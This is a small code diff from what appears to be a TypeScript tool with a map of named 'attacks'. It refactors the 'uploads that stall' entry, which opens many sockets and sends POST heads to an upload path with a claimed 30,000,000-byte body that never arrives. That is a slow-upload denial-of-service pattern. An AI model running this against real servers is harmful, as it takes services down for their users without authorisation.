@@ -89,8 +89,10 @@ export const attacks: Readonly<Record<string, Attack>> = {
   'uploads that stall': (target, signal) =>
     withSockets(target, signal, (socket, index) => {
       const headers = [
-        ...[`cookie: ${target.cookie}`, `origin: ${target.origin}`],
-        ...['content-type: multipart/form-data; boundary=x', 'content-length: 30000000'],
+        `cookie: ${target.cookie}`,
+        `origin: ${target.origin}`,
+        'content-type: multipart/form-data; boundary=x',
+        'content-length: 30000000',
       ];
       socket.write(toHead(target, { method: 'POST', path: target.upload, headers }, index));
     }),
